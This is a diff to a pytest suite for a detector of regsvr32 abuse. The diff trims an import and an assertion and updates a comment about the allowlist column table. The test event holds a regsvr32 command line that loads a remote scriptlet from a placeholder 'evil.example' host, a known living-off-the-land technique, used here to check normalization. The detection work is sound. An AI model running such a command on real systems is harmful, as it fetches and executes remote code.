@@ -8,7 +8,7 @@ import pytest
 
 from regsvr32_detector import Detector, load_allowlists
 from regsvr32_detector.allowlist import Allowlist, Entry, Glob
-from regsvr32_detector.allowlist_columns import COLUMNS, FOLD, MATCHERS, Facts
+from regsvr32_detector.allowlist_columns import COLUMNS, MATCHERS, Facts
 from regsvr32_detector.fields import normalize
 from support.events import proc
 
@@ -215,13 +215,13 @@ def test_index_agrees_with_a_full_scan(monkeypatch, seed, few):
 
 
 def test_column_table_drives_header_folding_and_facts():
-    # One table: every matcher column has a fold for cells and a source of event values.
-    assert COLUMNS[0] == "rule_id" and COLUMNS[1:1 + len(MATCHERS)] == MATCHERS
+    # One table: the shipped header is the loader's, and every matcher column has a source of
+    # event values. (COLUMNS, MATCHERS and FOLD are all built from MATCHER_TABLE at import.)
+    assert COLUMNS[0] == "rule_id"
     with open(DEFAULT_ALLOWLIST, encoding="utf-8") as f:
         assert tuple(f.readline().strip().split(",")) == COLUMNS
     event = normalize(proc("regsvr32 /s /i:http://Evil.example/a.sct C:/Users/Public/A.DLL"))
     facts = Facts(event)
-    assert set(FOLD) == set(MATCHERS)
     assert [facts.get(c) for c in MATCHERS] == [
         ("c:\\windows\\system32\\regsvr32.exe",), ("c:\\windows\\system32\\cmd.exe",),
         ("regsvr32 /s /i:http://evil.example/a.sct c:/users/public/a.dll",),
